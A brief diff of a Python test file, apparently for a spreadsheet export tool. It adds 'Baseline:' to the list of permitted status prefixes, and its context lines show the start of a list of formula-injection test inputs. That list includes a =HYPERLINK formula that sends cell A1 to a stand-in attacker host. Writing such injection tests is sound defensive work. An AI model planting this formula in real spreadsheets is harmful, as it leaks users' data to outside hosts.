@@ -21,7 +21,16 @@ MakeWorld = Callable[..., World]
 ROWS = 10_000
 LONG = 50_000
 # What a row's CAPI Status may begin with: the words render_row writes.
-STATUS_WORDS = ("Sent:", "Failed:", "Expired:", "Invalid:", "Skipped:", "No change:", "Would send:")
+STATUS_WORDS = (
+    "Sent:",
+    "Failed:",
+    "Expired:",
+    "Baseline:",
+    "Invalid:",
+    "Skipped:",
+    "No change:",
+    "Would send:",
+)
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
